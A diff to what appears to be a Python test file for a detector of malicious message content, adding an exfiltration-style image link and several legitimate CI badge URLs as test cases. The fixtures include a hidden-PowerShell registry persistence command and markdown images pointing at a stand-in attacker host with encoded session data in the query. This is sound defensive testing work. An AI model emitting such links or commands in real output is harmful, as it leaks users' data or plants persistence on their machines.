@@ -38,6 +38,9 @@ def found(text: str, kind: MessageKind = A) -> set[str]:
     ('reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /d "powershell -w hidden -f u.ps1"',
      "malicious.miner_persistence"),
     ("Done! ![chart](https://stats.attacker.example/pixel.gif?d=c2Vzc2lvbj0xMjM0NQ)", "malicious.exfiltration_url"),
+    # A status image on a host of its own is no CI badge.
+    ("Build: ![status](https://stats.attacker.example/build/status.svg?d=c2Vzc2lvbj0xMjM0NQ)",
+     "malicious.exfiltration_url"),
 ])
 def test_when_malicious_command_then_found(text: str, rule: str) -> None:
     assert rule in found(text)
@@ -65,6 +68,11 @@ def test_when_malicious_command_then_found(text: str, rule: str) -> None:
     "[![PyPI](https://img.shields.io/pypi/v/requests.svg?maxAge=86400)](https://pypi.org/project/requests)",
     "![Build](https://github.com/acme/tool/actions/workflows/tests.yaml/badge.svg?branch=main)",
     "![Docs](https://readthedocs.org/projects/tool/badge/?version=latest)",
+    # CI services' own status images (libsodium's README was flagged for the first two in session 26).
+    "[![Build Status](https://travis-ci.org/acme/tool.svg?branch=master)](https://travis-ci.org/acme/tool)",
+    "[![Windows build](https://ci.appveyor.com/api/projects/status/fu8s2elx?svg=true)](https://ci.appveyor.com/project/a)",
+    "[![Azure](https://dev.azure.com/acme/tool/_apis/build/status/acme.tool?branchName=main)](https://dev.azure.com/a)",
+    "[![CircleCI](https://circleci.com/gh/acme/tool.svg?style=svg)](https://circleci.com/gh/acme/tool)",
 ])
 def test_when_ordinary_admin_command_then_no_malicious_content(text: str) -> None:
     assert found(text) == set()
